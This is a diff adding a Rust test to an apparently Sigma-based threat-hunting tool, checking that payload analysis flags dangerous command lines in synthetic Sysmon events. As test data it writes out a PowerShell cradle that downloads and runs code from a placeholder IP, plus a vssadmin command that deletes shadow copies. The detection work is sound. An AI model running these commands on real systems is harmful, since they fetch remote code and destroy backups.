@@ -322,3 +322,97 @@ fn regression_folders_pass_and_fail() {
     assert_eq!(code, 1);
     assert!(out.contains("FAIL") && out.contains("0/1"), "{out}");
 }
+
+/// A Sysmon process creation as an export writes it, one JSON object a line.
+fn process_creation(host: &str, record: u64, cmd: &str) -> String {
+    serde_json::json!({"Event": {
+        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
+                   "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
+                   "Computer": host, "EventRecordID": record,
+                   "TimeCreated": {"#attributes": {"SystemTime": format!("2026-12-03T10:00:{:02}.000Z", record % 60)}}},
+        "EventData": {"CommandLine": cmd, "Image": "C:\\Windows\\System32\\cmd.exe", "User": "CORP\\bob"}}})
+    .to_string()
+}
+
+#[test]
+fn payload_analysis_puts_dangerous_command_lines_on_the_timeline() {
+    let dir = tempfile::tempdir().unwrap();
+    let cradle = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"";
+    let mut events = vec![
+        process_creation("ws-1.corp", 1, cradle),
+        process_creation("ws-1.corp", 2, "ipconfig /all"),
+        serde_json::json!({"Event": {"System": {"EventID": 4624, "Computer": "dc1", "EventRecordID": 3}}})
+            .to_string(),
+    ];
+    for h in 0..3 {
+        events.push(process_creation(
+            &format!("ws-{h}.corp"),
+            10 + h,
+            "vssadmin.exe delete shadows /all /quiet",
+        ));
+    }
+    let file = dir.path().join("sysmon.json");
+    std::fs::write(&file, events.join("\n") + "\n").unwrap();
+    let file = file.to_string_lossy().into_owned();
+
+    let (code, plain, _) = hunt_jsonl(&[&file]);
+    assert_eq!(code, 0);
+    assert!(
+        plain.iter().all(|d| d["rule_id"] != "warden-payload"),
+        "{plain:?}"
+    );
+
+    let (code, found, err) = hunt_jsonl(&["--payload", &file]);
+    assert_eq!(code, 0, "{err}");
+    let payload: Vec<&Value> = found
+        .iter()
+        .filter(|d| d["rule_id"] == "warden-payload")
+        .collect();
+    assert_eq!(payload.len(), 4, "{found:?}");
+    let first = payload[0];
+    assert_eq!(first["computer"], "ws-1.corp");
+    assert_eq!(first["record_id"], 1);
+    assert_eq!(first["level"], "critical", "{first}");
+    assert!(
+        first["tags"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|t| t == "attack.t1105"),
+        "{first}"
+    );
+    assert!(
+        first["details"]["CommandLine"]
+            .as_str()
+            .unwrap()
+            .contains("DownloadString")
+    );
+    // Every host that deleted its shadow copies is on the timeline: common or not, what a
+    // command does is reported.
+    assert_eq!(
+        payload
+            .iter()
+            .filter(|d| d["rule_title"].as_str().unwrap().contains("shadow"))
+            .count(),
+        3,
+        "{payload:?}"
+    );
+    assert!(
+        err.contains("payload analysis: 5 process creations, 4 detections at HIGH or above"),
+        "{err}"
+    );
+    // Payload detections are sorted into the timeline with the rules' detections.
+    let times: Vec<&str> = found
+        .iter()
+        .map(|d| d["timestamp"].as_str().unwrap())
+        .collect();
+    let mut sorted = times.clone();
+    sorted.sort_unstable();
+    assert_eq!(times, sorted);
+
+    // Not on a live stream: prevalence needs the whole hunt.
+    let rules = data("sigma");
+    let (code, _, err) = run(&["hunt", "-q", "--rules", &rules, "--payload", "-"]);
+    assert_ne!(code, 0);
+    assert!(err.contains("--payload reads files"), "{err}");
+}
